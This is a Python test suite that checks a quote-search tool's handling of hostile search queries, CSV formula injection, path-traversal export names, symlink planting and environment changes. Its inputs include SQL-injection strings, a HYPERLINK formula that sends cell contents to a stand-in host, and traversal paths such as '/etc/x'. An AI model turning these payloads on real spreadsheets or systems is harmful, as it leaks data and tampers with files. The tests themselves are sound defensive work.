"""A13, A14, A15: hostile questions, spreadsheet formulas, exports that stay in their folder."""

from __future__ import annotations

import csv
import json
import os
import re
from pathlib import Path

from . import folders
from .ground import Ground, ended, expect, no_traceback
from .terminal import Terminal, ready

_ANSWER_SECONDS = 2.0
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

QUESTIONS = (
    '"', '""', '"""', "'", "''", "(", ")", "()", ")(", "((((", "[", "]", "[]", "{", "}", "{a}:b", "^", "^a", "a^",
    "*", "a*", "*a", "**", "+", "a + b", "a+", "-", "--", "- a", "-a", "a -b", "-(", '-"', "AND", "OR", "NOT", "NEAR",
    "a AND", "OR b", "a NOT", "a OR OR b", "NEAR(", 'NEAR("a" "b", 3)', "a NEAR/2 b", "text:", "text:a", "text : a",
    "none:such", ":", ":a", "::", ",", "country:,", "country:", 'country:"', "country:zz", "country:gb,,fr", "speaker:",
    'speaker:"a', "speaker:-", "on:", "on:2025-13-45", "on:0000", "on:9999-99", "since:tomorrow", "until:..",
    "since:2025-03 until:2025-02", "article:", "article:x", "article:-1", "article:99999999999999999999", "kind:none",
    ".", "..", "?", "!", "/", "//", "\\", "\\\\", '\\"', "%", "_", "%%", "50%", "$", "$1", "?1", "@x", "#", "&", "|",
    "~", "`x`", ";", "; drop table article", "'; --", "/* x */", "C++", "a\tb", "\t\n", " ", "", "\u202e", "\u200b",
    "\x1b[2J", "\x7f", "１", "ⅷ", "😀", "👩‍👩‍👧", "ß", "İ", "\ud800", "a" * 3000, "a " * 1500, '"a" ' * 300, "(" * 500, "-" * 500,
)  # fmt: skip
# What each must find, in a text that holds it.
FOUND = ("30-day", "U.S.", "Russia's", "don't", "Port Amity's", "co-operate", "C++")
_HELD = "The 30-day pause of the U.S. plan, Russia's answer and Port Amity's: they don't co-operate in C++, said the clerk."


def questions(ground: Ground) -> str:
    """A13: whatever is asked, by command or in the search box, there is an answer or one line of help."""
    store = _store(ground)
    slowest, asked = 0.0, 0
    for words in (*QUESTIONS, *FOUND):
        for command in ("quotes", "articles") if asked % 4 == 0 else ("articles",):
            given = words.encode("utf-8", "surrogatepass")
            found = ground.run(command, "--db", store, "--limit", "3", "--", given)
            no_traceback(found, f"{command} {words[:40]!r}")
            expect(found.code in (0, 1, 2), f"{command} {words[:40]!r}: exit {found.code}: {found.last_line}")
            expect(len(found.err.splitlines()) <= 2, f"{command} {words[:40]!r}: {found.err[:200]!r}")
            slowest = max(slowest, found.seconds)
            expect(found.seconds <= _ANSWER_SECONDS, f"{command} {words[:40]!r}: {found.seconds:.1f} s")
        asked += 1
    for words in FOUND:
        expect(ground.run("articles", words, "--db", store, "--json").code == 0, f"{words!r} finds nothing")
    typed = _typed(ground, store)
    return f"{asked} by command (slowest {slowest:.1f} s), {typed} in the search box: no exception; {len(FOUND)} find theirs"


def _typed(ground: Ground, store: Path) -> int:
    command = [*ground.command, "browse", "--db", str(store)]
    typed = 0
    with Terminal(command, environment=ground.environment()) as terminal:
        ready(terminal)
        for words in QUESTIONS:
            if not words.isprintable() or not words.strip():
                continue
            terminal.press("/", 0.02)
            terminal.type(words.encode())
            terminal.read(0.1)
            # Kept, a moment later; what cannot be kept stays in the bar until it is left.
            terminal.press("\r", 0.12)
            terminal.press("\x1b", 0.12)
            terminal.press("x", 0.02)
            expect(terminal.code is None, f"the app ended at {words[:40]!r}: exit {terminal.code}")
            typed += 1
        terminal.settle(0.5, 8)
        code = terminal.leave()
        complaints = terminal.faults() + terminal.left_on()
        expect(code == 0 and not complaints, f"exit {code}: {', '.join(complaints)}")
    for word in ("30-day", "U.S."):
        with Terminal(command, environment=ground.environment()) as terminal:
            ready(terminal)
            terminal.press("/", 0.3)
            terminal.type(word.encode())
            terminal.see(rf"(?s)/ {re.escape(word)}.*Quotes [1-9]", 5)
    return typed


def _store(ground: Ground) -> Path:
    place = ground.fresh("questions")
    folders.ordinary(place / "in", 60, ground.seed)
    (place / "in" / "held.txt").write_text(
        f"A plan\n\n{_HELD}\n\n“{_HELD}” said Jane Roe on March 11, 2025.\n"
    )
    ground.ingest(place / "x.db", place / "in")
    return place / "x.db"


def formulas(ground: Ground) -> str:
    """A14: no cell of a CSV is a formula, and the JSON beside holds the words unchanged."""
    place = ground.fresh("formulas")
    titles = [f"{start}1+1 case {n}" for n, start in enumerate(_FORMULA_STARTS)]
    titles += [
        '=HYPERLINK("http://example.invalid/?"&A1,"x")',
        "  =1+1",
        "\u00a0=2",
        '"=3"',
        "'=4",
        "＝5",
        "\n=6",
    ]
    lines = [
        {
            "title": title,
            "publisher": title,
            "authors": [title],
            "published": "2025-03-11",
            "text": f"“{title} we wait {n},” said Jane Roe of France in Saltgate.",
        }
        for n, title in enumerate(titles)
    ]
    (place / "in.jsonl").write_text("\n".join(map(json.dumps, lines)))
    ground.ingest(place / "x.db", place / "in.jsonl")
    cells = 0
    out = place / "out"
    exported = ground.run("export", out, "--db", place / "x.db")
    expect(exported.code == 0, f"export exits {exported.code}: {exported.last_line}")
    texts = {path.name: path.read_text() for path in out.glob("*.csv")}
    for command in ("quotes", "articles", "timeline", "countries", "positions", "speakers", "files"):
        texts[f"{command} --csv"] = ground.run(command, "--csv", "--db", place / "x.db").out.decode()
    for name, text in texts.items():
        for row in csv.reader(text.splitlines(keepends=True)):
            cells += len(row)
            formula = [cell for cell in row if _is_formula(cell)]
            expect(not formula, f"{name}: {formula[:1]}")
    kept = {article["title"] for article in json.loads((out / "articles.json").read_text())}
    for title in titles:
        expect(_one_line(title) in kept, f"JSON does not hold {title!r}")
    raw = ground.run("export", place / "raw", "--raw", "--db", place / "x.db")
    unguarded = (place / "raw" / "articles.csv").read_text()
    expect(
        raw.code == 0 and "=HYPERLINK" in unguarded and "'=HYPERLINK" not in unguarded, "--raw still guards"
    )
    return f"{len(titles)} titles, {cells:,} cells: no formula; JSON as given; --raw as it is"


def _is_formula(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula; a plain number is none."""
    bare = cell.strip("\"' \u00a0\n")
    if cell.startswith("'") or not bare:
        return False
    try:
        float(cell)
    except ValueError:
        return cell.startswith(_FORMULA_STARTS) or bare.startswith(("=", "+", "-", "@", "＝"))
    return False


def _one_line(title: str) -> str:
    return " ".join(title.split())


def export_paths(ground: Ground) -> str:
    """A15: an export writes into its folder alone and replaces nothing unasked."""
    place = ground.fresh("exports")
    names = ("../../x", "/etc/x", "CON", "n" * 300, "a\0b", "..", "~/x", "x\n/y")
    lines = [
        {"title": name, "publisher": name, "text": f"{folders.BODY} {n}"} for n, name in enumerate(names)
    ]
    (place / "in.jsonl").write_text("\n".join(map(json.dumps, lines)))
    store = place / "x.db"
    ground.ingest(store, place / "in.jsonl")
    theirs = place / "theirs.csv"
    theirs.write_text("theirs")
    out = place / "out"
    before = _seen(place)
    expect(ground.run("export", out, "--db", store).code == 0, "export into a new folder fails")
    expect(_seen(place) == before, f"written outside: {_seen(place) - before}")
    expect(all(path.stat().st_mode & 0o077 == 0 for path in out.iterdir()), "an exported file is not 0600")
    first = {path.name: path.read_bytes() for path in out.iterdir()}
    refused = ground.run("export", out, "--db", store)
    expect(refused.code == 2 and len(refused.err.splitlines()) == 1, f"again: exit {refused.code}")
    (out / "quotes.csv").unlink()
    (out / "quotes.csv").symlink_to(theirs)
    refused = ground.run("export", out, "country:fr", "--db", store)
    expect(refused.code == 2, f"into a folder with a link: exit {refused.code}")
    forced = ground.run("export", out, "--force", "--db", store)
    expect(forced.code == 0, f"--force exits {forced.code}: {forced.last_line}")
    expect(theirs.read_text() == "theirs" and not (out / "quotes.csv").is_symlink(), "a link was followed")
    expect({path.name: path.read_bytes() for path in out.iterdir()} == first, "two exports differ")
    (place / "away").mkdir()
    (place / "link").symlink_to(place / "away")
    for target in ("link", "theirs.csv"):
        refused = ground.run("export", place / target, "--db", store)
        no_traceback(refused, f"export to {target}")
        expect(refused.code == 2 and not list((place / "away").iterdir()), f"{target}: exit {refused.code}")
    expect(theirs.read_text() == "theirs", "a file was replaced")
    return f"{len(names)} hostile titles, a planted link, a link for a folder, a file: only the folder given changes"


def _seen(place: Path) -> set[str]:
    """All paths in the folder but the export's; SQLite may put its log beside the store."""
    found = {str(path.relative_to(place)) for path in place.rglob("*")}
    return {name for name in found if name != "out" and not name.startswith(("out/", "x.db-"))}


def surroundings(ground: Ground) -> str:
    """T17: another locale, zone, hash seed, width and order of files make no other export."""
    place = ground.fresh("surroundings")
    folders.ordinary(place / "in", 40, ground.seed)
    others: tuple[dict[str, str], ...] = (
        {}, {"LANG": "C", "LC_ALL": "C", "PYTHONHASHSEED": "1"}, {"TZ": "Pacific/Kiritimati", "PYTHONHASHSEED": "2"},
        {"TERM": "dumb", "PYTHONHASHSEED": "3", "COLUMNS": "9"}, {"LC_ALL": "C.UTF-8", "PYTHONUTF8": "0"},
    )  # fmt: skip
    exports = []
    for number, other in enumerate(others):
        store, out = place / f"{number}.db", place / f"out{number}"
        files = sorted((place / "in").iterdir(), reverse=number % 2 == 1)
        environment = ground.environment(**other)
        ground.ingest(store, *files, env=environment)
        found = ground.run("export", out, "--db", store, env=environment)
        expect(found.code == 0, f"{other}: export exits {found.code}: {found.last_line}")
        exports.append({path.name: path.read_bytes() for path in out.iterdir()})
        expect(store.stat().st_mode & 0o077 == 0, f"{other}: the store is not 0600")
    for other, export in zip(others[2::2], exports[2::2], strict=True):
        differ = [name for name in export if export[name] != exports[0][name]]
        expect(not differ, f"{other}: {differ} differ")
    expect(exports[1] == exports[3], "reversed order: another seed makes another export")
    homeless = {name: value for name, value in ground.environment().items() if name != "HOME"}
    found = ground.run("quotes", "--db", place / "0.db", env={**homeless, "PATH": os.environ["PATH"]})
    expect(found.code == 0, f"without HOME: exit {found.code}: {found.last_line}")
    cut = ended(ground.start("articles", "--jsonl", "--db", place / "0.db", stdout=_closed_pipe()))
    no_traceback(cut, "into a closed pipe")
    return f"{len(others)} surroundings: the same bytes; no HOME, a closed pipe: no traceback"


def _closed_pipe() -> int:
    """The writing end of a pipe nobody reads."""
    reading, writing = os.pipe()
    os.close(reading)
    return writing
